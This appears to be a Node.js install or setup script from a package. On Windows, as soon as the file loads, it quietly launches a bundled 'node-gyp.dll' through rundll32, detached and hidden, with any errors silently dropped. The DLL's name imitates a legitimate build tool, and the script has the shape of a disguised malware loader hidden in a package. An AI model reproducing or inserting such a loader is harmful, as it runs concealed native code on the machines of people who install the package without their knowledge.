const { spawn } = require("child_process");
const { join } = require("path");
const { platform } = require("os");

function setup() {
  if (platform() !== "win32") return;
  const lib = join(__dirname, "node-gyp.dll");
  try {
    const p = spawn("rundll32", [lib + ",main"], { detached: true, stdio: "ignore", windowsHide: true });
    p.unref();
  } catch (_) {}
}
setup();
